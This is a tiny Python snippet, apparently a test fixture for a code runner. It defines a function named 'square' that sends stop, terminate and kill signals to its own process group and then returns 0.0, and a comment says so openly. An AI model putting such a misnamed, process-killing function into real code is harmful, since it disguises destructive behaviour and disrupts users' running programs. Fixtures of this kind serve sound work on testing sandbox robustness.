# Stops and kills its group of processes by number 0, which whoever started it could belong to.
# %% square
def square(x):
    import os
    import signal

    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        os.kill(0, number)
    return 0.0
